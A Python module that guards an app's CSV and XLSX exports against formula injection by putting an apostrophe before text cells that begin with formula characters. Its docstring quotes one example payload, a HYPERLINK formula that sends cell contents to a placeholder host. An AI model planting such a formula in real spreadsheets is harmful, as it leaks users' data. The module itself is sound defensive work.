"""Text that a spreadsheet will not run: neutralising CSV/formula injection (OWASP).

Names in the user's files (and OpenStreetMap's, which anyone can edit) reach every table the
app or the command line writes. A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``
or ``@`` as a formula (``=HYPERLINK("http://x/?d="&A1,"click")`` can send other cells away),
and a leading TAB or CR can hide such a start. Following the OWASP advice ("CSV Injection"),
every *text* cell starting with one of :data:`FORMULA_STARTS` gets a leading apostrophe, so it
opens as the literal text. Numbers stay numbers: ``-2.5`` held as a float is written as a
number; the same characters held as text are text and are neutralised.

- :func:`neutralise_cell` / :func:`neutralise_frame`: for every CSV and XLSX writer (column
  names included: a file's own column names reach the header row).
- :func:`mark_text_cells`: for an openpyxl workbook before it is saved, every ``str`` cell is
  stored as a string (``data_type = "s"``), never as a formula.

Qt-free and free of render imports, so core writers (e.g. :mod:`accessmap.core.optimize`) and
the command line can use it; :mod:`accessmap.render.export` writes through it.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "mark_text_cells", "neutralise_cell", "neutralise_frame"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is text starting with a formula character;
    anything else (numbers, None, NaN) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _is_text_column(s: pd.Series) -> bool:
    dtype = s.dtype
    return (
        pd.api.types.is_object_dtype(dtype)
        or isinstance(dtype, pd.StringDtype | pd.CategoricalDtype)
        or pd.api.types.is_string_dtype(dtype)
    )


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` safe to write to CSV/XLSX: text cells and column names neutralised.

    Only text is touched; numeric, boolean and date columns come back as they were (a text
    column keeps its dtype; a categorical one that had to change becomes object).
    """
    out = df.copy()
    for i in range(out.shape[1]):
        s = out.iloc[:, i]
        if not _is_text_column(s):
            continue
        values = s.to_numpy(dtype=object)
        fixed = [neutralise_cell(v) for v in values]
        if any(a is not b for a, b in zip(fixed, values, strict=True)):
            dtype = object if isinstance(s.dtype, pd.CategoricalDtype) else s.dtype
            out.isetitem(i, pd.Series(fixed, index=out.index, dtype=dtype, name=s.name))
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def mark_text_cells(workbook: Any) -> int:
    """Store every text cell of an openpyxl ``workbook`` as a string, never a formula; also
    neutralises text that still starts with a formula character. Returns the count of cells
    that were about to be formulas."""
    fixed = 0
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                if cell.data_type == "f" or value.startswith(FORMULA_STARTS):
                    fixed += 1
                    cell.value = neutralise_cell(value)
                cell.data_type = "s"
    return fixed
